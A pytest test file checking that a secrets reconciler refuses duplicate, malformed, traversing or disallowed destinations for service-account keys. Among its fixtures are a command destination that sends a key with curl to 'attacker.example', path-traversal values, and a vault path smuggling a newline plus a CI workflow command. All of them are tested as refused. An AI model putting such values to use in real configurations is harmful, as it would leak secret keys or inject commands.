"""The destinations of keys: several places, no place twice, and only places that are allowed."""

from __future__ import annotations

import pytest

from reconciler.errors import ConfigurationError
from tests.manifests.conftest import PROJECT, Folder

VAULT = "{vault: {path: secret/search/k}}"


def account(name: str, write_to: str) -> str:
    metadata = f"{{name: {name}, project: search}}"
    return (
        f"---\nkind: ServiceAccount\nmetadata: {metadata}\n"
        f"spec: {{name: {name}, key: {{write_to: {write_to}}}}}\n"
    )


def problems(folder: Folder, *write_to: str, **more: object) -> list[str]:
    """The problems of accounts `a`, `b`… with these destinations, without their positions."""
    documents = "".join(account(name, one) for name, one in zip("abc", write_to, strict=False))
    folder.write({"m.yaml": PROJECT + documents})
    try:
        folder.load(**more)
    except ConfigurationError as error:
        texts = map(str, error.diagnostics)
        return [text.partition("ServiceAccount/search/")[2] for text in texts]
    return []


def test_a_key_can_go_to_several_places(folder: Folder) -> None:
    folder.write({"m.yaml": PROJECT + account("a", f"[{VAULT}, {{file: secrets/k}}]")})
    (resource,) = [one for one in folder.load().resources if one.address.kind == "ServiceAccount"]
    assert resource.spec["key"]["write_to"] == [
        {"vault": {"path": "secret/search/k"}},
        {"file": "secrets/k"},
    ]


SHARED = {
    "file": ("{file: k}", "{file: ./k}"),
    "command": ("{command: [a, b]}", "{command: [a, b]}"),
    "vault": (VAULT, "{vault: {path: /secret/search/k/, field: other}}"),
    "kubernetes": ("{kubernetes: {namespace: n, secret: s, key: k}}",) * 2,
    "github_actions": (
        "{github_actions: {repository: a/b, name: X}}",
        "{github_actions: {repository: A/B, name: x}}",
    ),
    "gitlab_variable": (
        "{gitlab_variable: {project: a/b, name: X}}",
        "{gitlab_variable: {project: A/b, name: X, masked: false}}",
    ),
}


@pytest.mark.parametrize(("one", "other"), SHARED.values(), ids=SHARED.keys())
def test_two_keys_in_one_place_are_refused_for_every_sink(
    folder: Folder, one: str, other: str
) -> None:
    (problem,) = problems(folder, one, other)
    assert problem.startswith(("b: Two keys in one file: ", "b: Two keys in one place: "))
    assert "ServiceAccount/search/a" in problem


def test_two_keys_in_one_place_are_found_in_lists(folder: Folder) -> None:
    assert problems(folder, f"[{{file: x}}, {VAULT}]", f"[{{file: y}}, {VAULT}]") == [
        'b: Two keys in one place: ServiceAccount/search/a also delivers its key to "vault:secret/search/k".'
    ]


def test_a_place_that_is_listed_twice_is_refused(folder: Folder) -> None:
    assert problems(folder, f"[{VAULT}, {VAULT}]") == [
        'a: One destination twice: "vault:secret/search/k" is listed twice: remove one of the two.'
    ]


@pytest.mark.parametrize(
    ("write_to", "said"),
    [
        ("[]", "has 0 items; the minimum is 1"),
        ("[{file: a, command: [b]}]", "has 2 pairs; the maximum is 1"),
        ("{valt: {path: a/b}}", 'Did you mean "vault"?'),
        ("{vault: {}}", 'Missing "path"'),
        ("{vault: {path: a/b, key: c}}", 'Unknown field "key"'),
        ("{vault: {path: a/../b}}", '"a/../b" is not a path in HashiCorp Vault'),
        ('{vault: {path: "a/b\\n::error::c"}}', r'"a/b\n::error::c" is not a path'),
        ("{github_actions: {name: A}}", "exactly one of"),
        ("{github_actions: {repository: acme, name: A}}", "write OWNER/NAME"),
        ("{file: '${Project/search}'}", "must be known before apply"),
        ("[{vault: {path: 'a/${Project/search}'}}]", "must be known before apply"),
        ("[{file: a}, '${Project/search}']", "must be known before apply"),
        ("[{file: ../x}]", "points outside the stack's folder"),
    ],
)
def test_a_bad_destination_is_one_problem_in_a_list_or_alone(
    folder: Folder, write_to: str, said: str
) -> None:
    (problem,) = problems(folder, write_to)
    assert said in problem


ALLOWED = {
    "the place itself": ("vault:secret/search/k", True),
    "one level": ("vault:secret/search/*", True),
    "any level": ("vault:secret/**", True),
    "a star within one part": ("vault:secret/*", False),
    "another path": ("vault:secret/other/**", False),
    "another sink": ("file:**", False),
    "a prefix without a star": ("vault:secret/search", False),
    "a dot for a slash": ("vault:secret.search/*", False),
    "a letter for a dot": ("vault:secret.search.k", False),
}


@pytest.mark.parametrize(("glob", "is_allowed"), ALLOWED.values(), ids=ALLOWED.keys())
def test_the_caller_restricts_the_places(folder: Folder, glob: str, is_allowed: bool) -> None:
    folder.env["RECONCILER_ALLOW_SINKS"] = f"file:none, {glob}"
    by_variable = problems(folder, VAULT)
    folder.env.pop("RECONCILER_ALLOW_SINKS")
    by_option = problems(folder, VAULT, allow_sinks=("file:none", glob))
    assert [bool(found) for found in (by_variable, by_option)] == [not is_allowed] * 2
    for found in (*by_variable, *by_option):
        assert found.startswith("a: Destination not allowed: No key may be delivered to")
        assert glob in found


def test_a_manifest_cannot_lift_the_restriction(folder: Folder) -> None:
    folder.env["RECONCILER_ALLOW_SINKS"] = "file:secrets/*"
    for write_to in (
        "{file: secrets/../other}",
        "{file: other/k}",
        f"[{{file: secrets/k}}, {VAULT}]",
        "{command: [curl, https://attacker.example]}",
        "{file: secrets/deeper/k}",
    ):
        assert problems(folder, write_to), write_to


def test_an_empty_variable_restricts_nothing(folder: Folder) -> None:
    folder.env["RECONCILER_ALLOW_SINKS"] = " , "
    assert problems(folder, VAULT) == []
